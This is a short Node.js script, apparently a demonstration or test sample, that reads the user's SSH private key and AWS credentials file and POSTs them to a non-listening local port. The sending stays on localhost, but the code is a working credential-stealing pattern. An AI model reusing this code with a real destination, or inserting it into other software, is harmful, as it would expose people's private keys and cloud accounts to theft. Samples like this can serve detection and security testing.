// Reads what a thief would and offers it to a port on which nobody listens.
const fs = require('fs')
const http = require('http')
const os = require('os')
const path = require('path')

const loot = {}
for (const name of ['.ssh/id_rsa', '.aws/credentials']) {
  try {
    loot[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8')
  } catch {
    // not there
  }
}
const req = http.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/' })
req.on('error', () => {})
req.end(JSON.stringify(loot))
